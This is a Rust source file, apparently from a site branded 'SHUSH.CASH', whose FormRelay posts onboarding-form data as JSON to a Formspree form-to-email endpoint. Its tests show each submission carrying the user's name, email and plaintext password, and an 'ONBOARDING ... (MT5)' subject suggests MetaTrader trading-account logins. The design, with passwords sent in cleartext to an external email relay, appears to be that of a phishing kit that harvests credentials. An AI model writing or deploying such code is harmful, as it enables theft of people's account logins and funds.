//! Form relay over HTTP.

use gloo_net::http::Request;
use shush_core::{Relay, RelayError, RelayPayload, RelayResponse, RelayResult, RELAY_HEADERS};

/// Posts wizard payloads to a Formspree-style relay endpoint.
#[derive(Debug, Clone)]
pub struct FormRelay {
    endpoint: String,
}

/// Everything that goes on the wire for one post.
#[derive(Debug, Clone, PartialEq)]
pub struct RelayRequest {
    pub url: String,
    pub headers: Vec<(&'static str, &'static str)>,
    pub body: String,
}

impl FormRelay {
    pub fn new(endpoint: impl Into<String>) -> Self {
        Self {
            endpoint: endpoint.into(),
        }
    }

    /// Relay URL posted to.
    pub fn endpoint(&self) -> &str {
        &self.endpoint
    }

    /// URL, headers and JSON body for `payload`.
    pub fn request_parts(&self, payload: &RelayPayload) -> RelayResult<RelayRequest> {
        Ok(RelayRequest {
            url: self.endpoint.clone(),
            headers: RELAY_HEADERS.to_vec(),
            body: payload.to_json()?,
        })
    }
}

impl Relay for FormRelay {
    async fn post(&self, payload: &RelayPayload) -> RelayResult<RelayResponse> {
        let parts = self.request_parts(payload)?;

        let mut builder = Request::post(&parts.url);
        for (name, value) in parts.headers {
            builder = builder.header(name, value);
        }
        let request = builder
            .body(parts.body)
            .map_err(|e| RelayError::Request(e.to_string()))?;

        let response = request
            .send()
            .await
            .map_err(|e| RelayError::Transport(e.to_string()))?;

        log::debug!("Relay answered {} {}", response.status(), response.status_text());
        Ok(RelayResponse {
            status: response.status(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::RELAY_ENDPOINT;
    use shush_core::{Field, FormSchema, FormState};

    #[test]
    fn test_endpoint() {
        let relay = FormRelay::new(RELAY_ENDPOINT);
        assert_eq!(relay.endpoint(), "https://formspree.io/f/xdankdyq");
    }

    #[test]
    fn test_request_parts() {
        let schema = FormSchema::onboarding();
        let mut form = FormState::new(&schema);
        form.set(Field::FullName, "Jane Doe").unwrap();
        form.set(Field::Email, "jane@x.com").unwrap();
        form.set(Field::Password, "hunter2").unwrap();
        let payload = RelayPayload::build(&schema, &form, "SHUSH.CASH");

        let parts = FormRelay::new(RELAY_ENDPOINT).request_parts(&payload).unwrap();

        assert_eq!(parts.url, RELAY_ENDPOINT);
        assert_eq!(
            parts.headers,
            vec![("Content-Type", "application/json"), ("Accept", "application/json")]
        );

        let body: serde_json::Value = serde_json::from_str(&parts.body).unwrap();
        assert_eq!(body["_subject"], "SHUSH.CASH ONBOARDING: Jane Doe (MT5)");
        assert_eq!(body["_replyto"], "jane@x.com");
        assert_eq!(body["fullName"], "Jane Doe");
        assert_eq!(body["password"], "hunter2");
    }
}
